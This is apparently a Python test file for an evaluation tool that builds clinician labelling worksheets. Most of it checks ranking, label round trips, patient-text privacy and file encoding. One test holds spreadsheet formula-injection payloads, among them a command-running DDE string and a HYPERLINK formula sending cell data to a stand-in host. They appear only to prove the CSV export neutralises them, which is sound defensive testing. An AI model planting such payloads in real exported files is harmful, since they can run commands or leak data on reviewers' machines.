"""``evaluator review`` and :mod:`evaluator.analysis.review.review`: the worksheet's ranking and
reasons on hand-built records with distributions, labelled cases skipped, the round trip
through ``evaluator agree``, no case text without --show-text, refusals, and the
sample-size estimate (:mod:`evaluator.analysis.review.sample_size`)."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

pytest.importorskip("scipy", reason="needs the stats extra")
pytest.importorskip("sklearn", reason="needs the stats extra")
pytest.importorskip("pingouin", reason="needs the stats extra")

from click.testing import CliRunner

from evaluator.analysis.distributions import summarize
from evaluator.analysis.label_files import label_rows
from evaluator.analysis.review.inputs import read_labelled
from evaluator.analysis.review.review import (
    ReviewError,
    build_review,
    write_review,
)
from evaluator.analysis.review.sample_size import halfwidth_estimate
from evaluator.analysis.review.signals import parse_gate
from evaluator.cli.main import cli
from evaluator.data.results import PanelVerdict, ResultRecord, ResultWriter
from evaluator.data.sources import LabelSource
from evaluator.rubrics.load import load_rubric
from tests.conftest import label_source, write_jsonl

SECRET = "SECRET-PATIENT-TEXT Mrs Example, 71, metastatic"
SURE = {4: 0.95, 5: 0.05}
# accuracy distribution, accuracy given; case-04 has disagreeing samples and no
# distributions; case-06 is the one labelled already (and the least confident of all).
CASES = {
    "case-01": ({5: 0.95, 4: 0.05}, 5),  # confident, expected 4.95
    "case-02": ({2: 0.40, 3: 0.35, 1: 0.25}, 2),  # confidence 0.40, expected 2.10
    "case-03": ({4: 0.60, 5: 0.40}, 4),  # confidence 0.60, expected 4.40
    "case-05": ({3: 0.90, 4: 0.10}, 3),  # confident, expected 3.10: near accuracy>=3
    "case-06": ({1: 0.30, 2: 0.30, 3: 0.40}, 3),  # confidence 0.40, ties case-02
}


def scores(accuracy: int) -> dict:
    return {"hallucination": 4, "hallucination_reasoning": "ok", "accuracy": accuracy,
            "accuracy_reasoning": "ok", "clarity": 4, "clarity_reasoning": "ok"}


def record(case_id: str, line: int, probs: dict | None, accuracy: int, *,
           samples: list[int] | None = None, judge: str = "judge-a") -> ResultRecord:
    dists = None
    if probs is not None:
        dists = {"hallucination": summarize(SURE, 4), "accuracy": summarize(probs, accuracy),
                 "clarity": summarize(SURE, 4)}
    panel = None
    if samples is not None:
        panel = [PanelVerdict(sample=k, status="ok", scores=scores(v))
                 for k, v in enumerate(samples)]
    return ResultRecord(case_id=case_id, rubric="trial_eligibility", judge=judge, status="ok",
                        scores=scores(accuracy), distributions=dists, samples=panel,
                        input_file="cases.jsonl", input_line=line)


def case_row(case_id: str) -> dict:
    return {"case_id": case_id, "patient_profile": f"{SECRET} ({case_id})", "trial_id": "NCT1",
            "trial_title": "A trial", "eligibility_criteria": "adults",
            "ground_truth_label": "eligible", "ground_truth_explanation": "meets all",
            "workflow_answer": "eligible"}


@pytest.fixture
def results(tmp_path):
    """A results file of six hand-built records (and the cases file they name)."""
    ids = sorted([*CASES, "case-04"])
    write_jsonl(tmp_path / "cases.jsonl", [case_row(i) for i in ids])
    path = tmp_path / "results.jsonl"
    with ResultWriter(path) as writer:
        for line, case_id in enumerate(ids, start=1):
            if case_id == "case-04":
                writer.write(record(case_id, line, None, 3, samples=[1, 5]))
            else:
                probs, accuracy = CASES[case_id]
                writer.write(record(case_id, line, probs, accuracy))
        writer.write(ResultRecord(case_id="case-07", rubric="trial_eligibility",
                                  judge="judge-a", status="truncated", reason="token limit"))
    return path


@pytest.fixture
def labels(tmp_path):
    return write_jsonl(tmp_path / "labels.jsonl",
                       [{"case_id": "case-06", "expert": 2}, {"case_id": "case-01", "expert": ""}])


def invoke(*args: str):
    return CliRunner().invoke(cli, list(map(str, args)))


def read_csv(path) -> list[dict]:
    # utf-8-sig: review.csv starts with a byte-order mark (for Excel), as every reader
    # of the tool reads it.
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def one_line_error(result) -> str:
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    return lines[0]


def test_ranking_takes_each_signal_in_turn_with_its_reason(results, labels):
    sheet = build_review([results], gates=[parse_gate("accuracy>=3")],
                         labels=LabelSource((labels,), "expert"))
    # confidence, disagreement, gate, then again: case-04 (a margin of 0 by its score) is
    # taken by disagreement already, so the gate's head is case-05.
    assert [r["case_id"] for r in sheet.rows] == ["case-02", "case-04", "case-05", "case-03",
                                                  "case-01"]
    reasons = [r["reason"] for r in sheet.rows]
    assert reasons[0] == "lowest confidence: P 0.40 on accuracy"
    assert reasons[1] == "samples disagree: 1, 5 on accuracy"
    assert reasons[2] == "near pass gate accuracy >= 3: expected 3.10"
    assert reasons[3] == "lowest confidence: P 0.60 on accuracy"
    assert reasons[4] == "near pass gate accuracy >= 3: expected 4.95"
    assert [r["rank"] for r in sheet.rows] == ["1", "2", "3", "4", "5"]
    first = sheet.rows[0]
    assert first["accuracy.score"] == "2" and first["accuracy.expected"] == "2.1"
    assert first["accuracy.confidence"] == "0.4"
    assert json.loads(first["accuracy.distribution"]) == {"1": 0.25, "2": 0.4, "3": 0.35}
    assert sheet.rows[1]["max_spread"] == "1" and sheet.rows[1]["min_confidence"] == ""
    assert sheet.labelled_skipped == 1 and sheet.not_ok == 1 and sheet.candidates == 5
    # Deterministic: the same inputs give the same sheet.
    again = build_review([results], gates=[parse_gate("accuracy>=3")],
                         labels=LabelSource((labels,), "expert"))
    assert again.rows == sheet.rows


def test_without_gates_or_labels_the_least_confident_case_comes_first(results):
    sheet = build_review([results], n=2)
    assert [r["case_id"] for r in sheet.rows] == ["case-02", "case-04"]
    # case-06 ties case-02 at P 0.40 on accuracy: the tie goes by case id.
    sheet = build_review([results], n=3)
    assert [r["case_id"] for r in sheet.rows] == ["case-02", "case-04", "case-06"]


def test_several_results_files_judges_disagreeing_is_a_signal(results, tmp_path):
    other = tmp_path / "other.jsonl"
    with ResultWriter(other) as writer:
        writer.write(record("case-01", 1, {1: 0.95, 2: 0.05}, 1, judge="judge-b"))
    sheet = build_review([results, other], n=2, criteria=["accuracy"])
    assert sheet.rows[1]["case_id"] == "case-01"
    assert sheet.rows[1]["reason"] == "judges disagree: judge-a 5, judge-b 1 on accuracy"


def test_labelled_cases_are_not_proposed_again_and_empty_labels_are_not_labels(results,
                                                                              labels):
    assert read_labelled(label_source(labels, "expert")) == {"case-06": 2.0}
    sheet = build_review([results], labels=LabelSource((labels,), "expert"))
    ids = [r["case_id"] for r in sheet.rows]
    assert "case-06" not in ids and "case-01" in ids


def test_cli_writes_both_files_and_agree_reads_the_filled_labels_back(results, tmp_path):
    out = tmp_path / "sheet"
    done = invoke("review", results, "--out", out, "--pass", "accuracy>=3")
    assert done.exit_code == 0, done.output
    assert "accuracy.label" in done.output
    rows = read_csv(out / "review.csv")
    jsonl = [json.loads(line) for line in (out / "review.jsonl").read_text().splitlines()]
    assert [r["case_id"] for r in rows] == [r["case_id"] for r in jsonl]
    assert {"accuracy.label", "hallucination.label", "clarity.label"} <= set(rows[0])
    assert all(r["accuracy.label"] == "" for r in rows)
    assert jsonl[0]["accuracy.label"] is None and jsonl[0]["criteria"]["accuracy"]["score"] == 2
    assert oct((out / "review.csv").stat().st_mode & 0o777) == "0o600"
    assert oct(out.stat().st_mode & 0o777) == "0o700"
    # A clinician fills in the label column; agree reads it unchanged.
    filled = {r["case_id"]: str(1 + i % 5) for i, r in enumerate(rows)}
    with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
        reader = csv.DictReader(handle)
        fieldnames, table = reader.fieldnames, list(reader)
    for row in table:
        row["accuracy.label"] = filled[row["case_id"]]
    labelled = tmp_path / "labelled.csv"
    with open(labelled, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=fieldnames, lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)
    agreed = invoke("agree", results, "--labels", labelled, "--label-field", "accuracy.label",
                    "--criterion", "accuracy", "--resamples", "100", "--json")
    assert agreed.exit_code == 0, agreed.output
    report = json.loads(agreed.output[agreed.output.index("{"):])
    assert report["joined"] == len(rows) and report["unmatched_labels"] == 0
    # Those cases are not proposed again: here they were every judged case.
    again = invoke("review", results, "--out", tmp_path / "next", "--labels", labelled,
                   "--label-field", "accuracy.label")
    assert again.exit_code == 0, again.output
    assert "nothing to draw" in again.output
    assert not (tmp_path / "next" / "review.csv").exists()


def test_the_follow_up_command_names_the_files_and_runs_as_printed(results, tmp_path,
                                                                    monkeypatch):
    """review's closing hint is a command to copy: it names the results file and the
    worksheet as given (never the word RESULTS), fits 80 columns, and, the label filled
    in, runs. (Paths relative to here, as typed: a path longer than a line is printed
    whole, on a line of its own.)"""
    import shlex

    monkeypatch.chdir(tmp_path)
    results = results.relative_to(tmp_path)
    out = Path("a folder with spaces") / "sheet"
    done = invoke("review", results, "--out", out, "--pass", "accuracy>=3")
    assert done.exit_code == 0, done.output
    lines = done.output.splitlines()
    assert max(map(len, lines)) <= 80, lines
    assert "RESULTS" not in done.output
    commands = []  # every command printed, as the shell would read it
    for i, line in enumerate(lines):
        if not line.strip().startswith("evaluator "):
            continue
        command = []
        for part in lines[i:]:
            command.append(part.strip().removesuffix("\\"))
            if not part.endswith("\\"):
                break
        commands.append(shlex.split(" ".join(command)))
    # First the labelling page on the sheet folder, then agree on the labels saved there,
    # then agree on a filled-in review.csv.
    assert commands[0] == ["evaluator", "label", str(out), "--labeller", "NAME"]
    assert commands[1] == ["evaluator", "agree", str(results), "--labels", str(out)]
    words = commands[2]
    assert words[:3] == ["evaluator", "agree", str(results)]
    assert words[words.index("--labels") + 1] == str(out / "review.csv")
    field = words[words.index("--label-field") + 1]
    with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
        reader = csv.DictReader(handle)
        fieldnames, table = reader.fieldnames, list(reader)
    for i, row in enumerate(table):
        row[field] = str(1 + i % 4)
    with open(out / "review.csv", "w", newline="", encoding="utf-8-sig") as handle:
        writer = csv.DictWriter(handle, fieldnames=fieldnames, lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)
    agreed = invoke(*words[1:], "--resamples", "100")
    assert agreed.exit_code == 0, agreed.output


def test_agree_reads_a_half_filled_worksheet(results, tmp_path):
    # An empty label is a row not labelled yet: agree skips and counts it; an all-empty
    # column is one clear error.
    out = tmp_path / "sheet"
    assert invoke("review", results, "--out", out).exit_code == 0
    result = invoke("agree", results, "--labels", out / "review.csv", "--label-field",
                    "accuracy.label")
    assert result.exit_code == 2 and "no labels yet" in result.output
    rows = read_csv(out / "review.csv")
    assert len(rows) >= 4
    for row in rows[:3]:
        row["accuracy.label"] = row["accuracy.score"]
    path = tmp_path / "half.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = invoke("agree", results, "--labels", path, "--label-field", "accuracy.label",
                    "--criterion", "accuracy", "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report["joined"] == 3 and report["unlabelled_rows"] == len(rows) - 3


def test_no_case_text_without_show_text(results, tmp_path):
    out = tmp_path / "sheet"
    done = invoke("review", results, "--out", out, "--cases", tmp_path / "cases.jsonl")
    assert done.exit_code == 0, done.output
    for name in ("review.csv", "review.jsonl"):
        assert "SECRET-PATIENT-TEXT" not in (out / name).read_text()
    assert "SECRET" not in done.output and "PHI" not in done.output
    shown = invoke("review", results, "--out", tmp_path / "text", "--show-text", "--cases",
                   tmp_path / "cases.jsonl")
    assert shown.exit_code == 0, shown.output
    assert "holds case text (PHI)" in shown.output
    rows = read_csv(tmp_path / "text" / "review.csv")
    assert rows[0]["input.patient_profile"] == f"{SECRET} ({rows[0]['case_id']})"
    assert "SECRET-PATIENT-TEXT" in (tmp_path / "text" / "review.jsonl").read_text()


def test_show_text_needs_cases(results, tmp_path):
    line = one_line_error(invoke("review", results, "--out", tmp_path / "o", "--show-text"))
    assert "--show-text needs --cases" in line


def test_an_existing_worksheet_is_not_replaced_without_force(results, tmp_path):
    out = tmp_path / "sheet"
    assert invoke("review", results, "--out", out).exit_code == 0
    (out / "review.csv").write_text("labels in progress\n")
    line = one_line_error(invoke("review", results, "--out", out))
    assert "--force" in line and "review.csv" in line
    assert (out / "review.csv").read_text() == "labels in progress\n"
    assert invoke("review", results, "--out", out, "--force").exit_code == 0
    assert (out / "review.csv").read_bytes().startswith(b"\xef\xbb\xbfcase_id,")
    # Never the worksheet whose labels are being read, --force or not.
    line = one_line_error(invoke("review", results, "--out", out, "--force", "--labels",
                                 out / "review.csv", "--label-field", "accuracy.label"))
    assert "also an input" in line


@pytest.mark.parametrize("case", ["missing results", "results is a folder", "damaged results",
                                  "missing labels", "labels not csv/jsonl", "no label field",
                                  "out is a file", "missing cases", "unknown criterion",
                                  "bad gate", "gate on a string"])
def test_wrong_paths_and_options_exit_2_in_one_line(results, tmp_path, case):
    out = tmp_path / "o"
    args = [results, "--out", out]
    if case == "missing results":
        args[0] = tmp_path / "nope.jsonl"
    elif case == "results is a folder":
        args[0] = tmp_path
    elif case == "damaged results":
        args[0] = tmp_path / "cases.jsonl"
    elif case == "missing labels":
        args += ["--labels", tmp_path / "nope.csv", "--label-field", "x"]
    elif case == "labels not csv/jsonl":
        (tmp_path / "labels.txt").write_text("case_id,x\n")
        args += ["--labels", tmp_path / "labels.txt", "--label-field", "x"]
    elif case == "no label field":
        args += ["--labels", write_jsonl(tmp_path / "l.jsonl", [{"case_id": "case-01"}]),
                 "--label-field", "x"]
    elif case == "out is a file":
        out.write_text("")
    elif case == "missing cases":
        args += ["--show-text", "--cases", tmp_path / "nope.jsonl"]
    elif case == "unknown criterion":
        args += ["--criterion", "nope"]
    elif case == "bad gate":
        args += ["--pass", "accuracy>three"]
    elif case == "gate on a string":
        args += ["--pass", "accuracy_reasoning>=3"]
    line = one_line_error(invoke("review", *args))
    assert "SECRET" not in line


def many_labelled(tmp_path, n: int = 40):
    """A results file of ``n`` cases and labels for all of them, loosely agreeing."""
    path = tmp_path / "many.jsonl"
    rows = []
    with ResultWriter(path) as writer:
        for i in range(n):
            accuracy = 1 + (i * 7) % 5
            label = max(1, min(5, accuracy + (i % 3) - 1))
            writer.write(record(f"c{i:03d}", i + 1, {accuracy: 0.7, 1 + accuracy % 5: 0.3},
                                accuracy))
            rows.append({"case_id": f"c{i:03d}", "expert": label})
    return path, write_jsonl(tmp_path / "many_labels.jsonl", rows)


def test_sample_size_estimate_decreases_with_a_looser_target(tmp_path):
    path, labels = many_labelled(tmp_path)
    needed = []
    for target in (0.05, 0.1, 0.2):
        sheet = build_review([path], labels=LabelSource((labels,), "expert"),
                             criteria=["accuracy"], target_halfwidth=target, resamples=200)
        (estimate,) = sheet.estimates
        assert estimate["criterion"] == "accuracy" and estimate["n"] == 40
        assert estimate["ci_method"].startswith("bootstrap")
        assert "sqrt(n / n')" in estimate["method"]
        needed.append(estimate["n_needed"])
    assert needed == sorted(needed, reverse=True) and needed[0] > needed[2] >= 40
    # A target the current interval already meets needs no more cases.
    loose = halfwidth_estimate([1, 2, 3, 4, 5] * 8, [1, 2, 3, 5, 4] * 8,
                               statistic="spearman", target_halfwidth=0.5, resamples=200)
    assert loose["more"] == 0
    # Perfect agreement: every resample gives 1, a point, not a 95% CI: no estimate, said.
    perfect = halfwidth_estimate([1, 2, 3, 4, 5] * 8, [1, 2, 3, 4, 5] * 8,
                                 statistic="spearman", target_halfwidth=0.5, resamples=200)
    assert perfect["n_needed"] is None and "no interval" in perfect["note"]


def test_estimate_via_the_cli_and_for_spearman(tmp_path):
    path, labels = many_labelled(tmp_path)
    done = invoke("review", path, "--out", tmp_path / "o", "--labels", labels, "--label-field",
                  "expert", "--target-statistic", "spearman", "--target-halfwidth", "0.1",
                  "--resamples", "200")
    assert done.exit_code == 0, done.output
    # Without --criterion: the rubric's first integer criterion, which this judge scores 4
    # every time: no statistic, said.
    # (The lines are wrapped to 80 columns: read them as one text.)
    assert "hallucination, Spearman rho (n = 40 labelled): Spearman rho is undefined" \
        in " ".join(done.output.split())
    done = invoke("review", path, "--out", tmp_path / "o2", "--labels", labels,
                  "--label-field", "expert", "--criterion", "accuracy", "--target-statistic",
                  "spearman", "--resamples", "200")
    assert done.exit_code == 0, done.output
    text = " ".join(done.output.split())
    assert "accuracy, Spearman rho (n = 40 labelled): " in text
    assert "more) for a half-width of 0.1 [estimate: " in text


def test_write_review_refuses_a_symlinked_worksheet(results, tmp_path):
    sheet = build_review([results], n=1)
    out = tmp_path / "o"
    out.mkdir()
    os.symlink(tmp_path / "elsewhere.csv", out / "review.csv")
    for force in (False, True):
        with pytest.raises(ReviewError, match="symbolic link"):
            write_review(sheet, out, force=force)
    assert not (tmp_path / "elsewhere.csv").exists()


def test_items_criteria_rank_by_their_least_sure_item_and_label_their_aggregate(tmp_path):
    # ecg_interpretation scores lists of items; agree compares their aggregates (same names).
    path = tmp_path / "ecg.jsonl"
    # A whole verdict (the reader checks it against the rubric), one item per criterion.
    whole = {f.key: [{"Score": f.allowed[0], "Explanation": "ok"}]
             for f in load_rubric("ecg_interpretation").output}
    with ResultWriter(path) as writer:
        for case_id, second in (("e1", {2: 0.9, 1: 0.1}), ("e2", {1: 0.55, 2: 0.45})):
            items = [{"Score": 2, "Explanation": "ok"}, {"Score": max(second, key=second.get),
                                                         "Explanation": "ok"}]
            dists = {"DiagnosisAccuracy[0].Score": summarize({2: 0.8, 0: 0.2}, 2),
                     "DiagnosisAccuracy[1].Score": summarize(second, items[1]["Score"])}
            writer.write(ResultRecord(case_id=case_id, rubric="ecg_interpretation",
                                      judge="j", status="ok",
                                      scores={**whole, "DiagnosisAccuracy": items},
                                      aggregates={"DiagnosisAccuracy": 0.5},
                                      distributions=dists))
    sheet = build_review([path], criteria=["DiagnosisAccuracy"])
    assert [r["case_id"] for r in sheet.rows] == ["e2", "e1"]
    assert sheet.rows[0]["reason"] == "lowest confidence: P 0.55 on DiagnosisAccuracy[1].Score"
    assert sheet.rows[0]["DiagnosisAccuracy.score"] == "[2,1]"
    assert sheet.rows[0]["DiagnosisAccuracy.confidence"] == "0.55"
    assert sheet.rows[0]["DiagnosisAccuracy.aggregate"] == "0.5"
    assert sheet.label_columns == ["DiagnosisAccuracy.label"]


def test_a_symlinked_jsonl_refuses_the_pair_before_anything_is_written(results, tmp_path):
    out = tmp_path / "sheet"
    out.mkdir()
    (out / "review.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
    done = invoke("review", results, "--out", out, "--force")
    assert done.exit_code == 2 and "symbolic link" in done.output
    assert not (out / "review.csv").exists() and not (tmp_path / "elsewhere.jsonl").exists()


# Case ids a spreadsheet would run (issue 34), hospital ids that look like numbers, and ids
# holding the escape character itself; run accepts all of them.
HOSTILE_IDS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://e.vil/?"&A1)', "+1+1", "@SUM(A1)",
               "-0042", "+44 20 7946 0000", "'quoted", "''=x", "\uff1d1+1", " =1+1", "case-9"]


def formula(cell: str) -> bool:
    """Whether a spreadsheet runs the cell (OWASP's triggers, after spaces, full-width)."""
    first = cell.lstrip()[:1]
    return cell[:1] in ("\t", "\r") or (first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20")


def drawn_sheet(tmp_path, rows):
    """A run of the fake judge over ``rows`` (drug_monograph_similarity cases) and its
    random worksheet of every case, drawn with --show-text: (results, sheet folder, cases)."""
    cases = write_jsonl(tmp_path / "cases.jsonl", rows)
    results = tmp_path / "results.jsonl"
    ran = invoke("run", "-r", "drug_monograph_similarity", "-m", "fake", "-i", cases, "-o",
                 results, "--no-progress")
    assert ran.exit_code == 0, ran.output
    out = tmp_path / "sheet"
    done = invoke("review", results, "--out", out, "--design", "random", "--n", len(rows),
                  "--show-text", "--cases", cases)
    assert done.exit_code == 0, done.output
    return results, out, cases


def test_hostile_case_ids_are_never_formulas_and_still_join(tmp_path):
    rows = [{"case_id": case_id, "Resp": f"=HYPERLINK(\"http://e.vil/?\"&B2) {SECRET} {i}",
             "Truth": f"+{SECRET} {i}"} for i, case_id in enumerate(HOSTILE_IDS)]
    results, out, _ = drawn_sheet(tmp_path, rows)
    with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    assert len(table) == len(HOSTILE_IDS) + 1
    assert not [cell for row in table for cell in row if formula(cell)]
    header = table[0]
    written = {row[header.index("case_id")] for row in table[1:]}
    assert '\'=HYPERLINK("http://e.vil/?"&A1)' in written and "'-0042" in written
    assert "'''=x" in written and "case-9" in written
    # The JSONL keeps the ids as they are; a clinician fills the label column in the sheet,
    # every other cell as the tool wrote it.
    jsonl = [json.loads(line) for line in (out / "review.jsonl").read_text().splitlines()]
    assert sorted(r["case_id"] for r in jsonl) == sorted(HOSTILE_IDS)
    label = header.index("Score.label")
    for position, row in enumerate(table[1:]):
        row[label] = str(position % 2)
    filled = tmp_path / "filled.csv"
    with filled.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(table)
    estimated = invoke("estimate", results, "--labels", filled, "--label-field", "Score.label",
                       "--json")
    assert estimated.exit_code == 0, estimated.output
    first = json.loads(estimated.output.splitlines()[0])
    assert first["n_labelled"] == len(HOSTILE_IDS) == first["n_cases"]
    agreed = invoke("agree", results, "--labels", filled, "--label-field", "Score.label",
                    "--resamples", "100", "--json")
    assert agreed.exit_code == 0, agreed.output
    report = json.loads(agreed.output[agreed.output.index("{"):])
    assert report["joined"] == len(HOSTILE_IDS) and report["unmatched_labels"] == 0
    again = invoke("review", results, "--out", tmp_path / "next", "--labels", filled,
                   "--label-field", "Score.label")
    assert again.exit_code == 0, again.output
    assert f"labelled already ({len(HOSTILE_IDS)} labelled)" in again.output
    # A sheet built by hand with the ids as they are (no leading ') joins too.
    hand = tmp_path / "hand.csv"
    with hand.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["case_id", "y"])
        writer.writerows([case_id, i % 2] for i, case_id in enumerate(HOSTILE_IDS)
                         if not case_id.startswith("'"))
    agreed = invoke("agree", results, "--labels", hand, "--label-field", "y", "--resamples",
                    "100", "--json")
    assert agreed.exit_code == 0, agreed.output
    report = json.loads(agreed.output[agreed.output.index("{"):])
    assert report["joined"] == len(HOSTILE_IDS) - 2 and report["unmatched_labels"] == 0


def test_labels_so_far_in_a_key_label_column_are_on_its_scale_or_label_scale(results,
                                                                            tmp_path):
    """A worksheet's accuracy.label holding 0/1 (pass/fail) or 30 ('3_0') was taken as it was
    to skip rows and to estimate how many more labels a CI needs."""
    for bad, words in (("0", "is 0, not on the scale of 'accuracy'"), ("3_0", "not a number")):
        labels = write_jsonl(tmp_path / "so-far.jsonl", [
            {"case_id": "case-06", "accuracy.label": bad}, {"case_id": "case-01",
                                                            "accuracy.label": ""}])
        done = invoke("review", results, "--out", tmp_path / "sheet", "--labels", labels,
                      "--label-field", "accuracy.label")
        assert done.exit_code == 2 and words in done.output, done.output
        assert "line 1" in done.output and "case-06" not in done.output
        assert len(done.output.strip().splitlines()) == 1
    done = invoke("review", results, "--out", tmp_path / "sheet", "--labels", labels,
                  "--label-field", "accuracy.label", "--label-scale", "0,1")
    assert done.exit_code == 2 and "not a number" in done.output  # '3_0' still is not
    labels.write_text('{"case_id": "case-06", "accuracy.label": 0}\n')
    done = invoke("review", results, "--out", tmp_path / "sheet", "--labels", labels,
                  "--label-field", "accuracy.label", "--label-scale", "0,1")
    assert done.exit_code == 0, done.output
    assert "case-06" not in {row["case_id"] for row in read_csv(tmp_path / "sheet" /
                                                                 "review.csv")}


def test_with_every_judged_case_labelled_nothing_is_drawn_or_written(results, tmp_path):
    """A 0-case sheet was written, with "fill one in, then: evaluator agree ..."."""
    every = write_jsonl(tmp_path / "all.jsonl",
                        [{"case_id": f"case-0{i}", "expert": 3} for i in range(1, 7)])
    out = tmp_path / "sheet"
    done = invoke("review", results, "--out", out, "--labels", every, "--label-field",
                  "expert")
    assert done.exit_code == 0, done.output
    # The one line, then the labels' sample-size estimate (as with a sheet).
    lines = done.output.splitlines()
    assert lines[0] == "every judged case is labelled already (6 labelled); nothing to draw"
    assert "fill one in" not in done.output and "0 of the" not in done.output
    assert all(line.startswith("estimate for") or line.startswith("  ")
               for line in lines[1:]), lines
    assert not (out / "review.csv").exists() and not (out / "review.jsonl").exists()


# Ids and text a spreadsheet garbles when it reads UTF-8 as Windows-1252 (synthetic).
ACCENTED_IDS = ["Zürich-07", "patient-é-2", "Åse-3", "Ødegård-4", "plain-5"]


def accented_run(tmp_path):
    """A run of the fake judge over cases with accented ids and text holding ``≥``, ``°``
    and ``’``, and its random worksheet drawn with --show-text (every case)."""
    rows = [{"case_id": case_id, "Resp": f"{SECRET}\nage ≥ 18 years, 38.5 °C, patient’s {i}",
             "Truth": f"dose ≥ {i} mg"} for i, case_id in enumerate(ACCENTED_IDS)]
    results, out, _ = drawn_sheet(tmp_path, rows)
    return results, out


def test_review_csv_starts_with_a_bom_and_round_trips_through_the_readers(tmp_path):
    """Excel on Windows reads a CSV without a byte-order mark as Windows-1252: ``≥`` and
    an accented id came out garbled in the worksheet a clinician fills in."""
    results, out = accented_run(tmp_path)
    raw = (out / "review.csv").read_bytes()
    assert raw[:3] == b"\xef\xbb\xbf" and raw[3:11] == b"case_id,"
    with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    header = table[0]
    assert header[0] == "case_id"
    assert sorted(row[0] for row in table[1:]) == sorted(ACCENTED_IDS)
    cells = [cell for row in table[1:] for cell in row]
    assert any("age ≥ 18 years, 38.5 °C, patient’s" in cell for cell in cells)
    # The labels reader of agree, estimate, review and report: no BOM in the first
    # column's name, the ids those of review.jsonl.
    rows = label_rows(out / "review.csv")
    jsonl = [json.loads(line) for line in (out / "review.jsonl").read_text().splitlines()]
    assert [row["case_id"] for _, row in rows] == [r["case_id"] for r in jsonl]
    # A clinician fills the label column in and saves it as "CSV UTF-8" (with the BOM).
    label = header.index("Score.label")
    for position, row in enumerate(table[1:]):
        row[label] = str(position % 2)
    with open(out / "review.csv", "w", newline="", encoding="utf-8-sig") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(table)
    agreed = invoke("agree", results, "--labels", out / "review.csv", "--label-field",
                    "Score.label", "--resamples", "100", "--json")
    assert agreed.exit_code == 0, agreed.output
    report = json.loads(agreed.output[agreed.output.index("{"):])
    assert report["joined"] == len(ACCENTED_IDS) and report["unmatched_labels"] == 0
    estimated = invoke("estimate", results, "--labels", out / "review.csv", "--label-field",
                       "Score.label", "--json")
    assert estimated.exit_code == 0, estimated.output
    assert json.loads(estimated.output.splitlines()[0])["n_labelled"] == len(ACCENTED_IDS)


def test_a_labels_csv_saved_as_windows_1252_names_the_line_and_what_to_do(tmp_path):
    """Excel's "CSV (Comma delimited)" is Windows-1252 (``≥`` becomes ``?``): the reader
    said only "'utf-8' codec can't decode byte 0xdc in position 1598"."""
    results, out = accented_run(tmp_path)
    with open(out / "review.csv", newline="", encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    label = table[0].index("Score.label")
    for position, row in enumerate(table[1:]):
        row[label] = str(position % 2)
    # The ASCII id first: its row's first byte outside ASCII is on its case text's
    # second line, which is line 3 of the file.
    table[1:] = sorted(table[1:], key=lambda row: row[0] != "plain-5")
    saved = tmp_path / "lab_cp.csv"
    with open(saved, "w", newline="", encoding="cp1252", errors="replace") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(table)
    raw = saved.read_bytes()
    first_bad = next(i for i, byte in enumerate(raw) if byte >= 0x80)
    line = raw[:first_bad].count(b"\n") + 1
    # The file's line, as an editor shows it: the cells before it span two lines each.
    row = next(n for n, r in enumerate(table, start=1) if not "".join(r).isascii())
    assert line == 3 and row == 2
    for command in ("agree", "estimate"):
        message = one_line_error(invoke(command, results, "--labels", saved,
                                        "--label-field", "Score.label"))
        assert message == (f'error: {saved}: line {line} is not valid UTF-8; re-encode the '
                           'file as UTF-8 (from a spreadsheet: save it as "CSV UTF-8")')
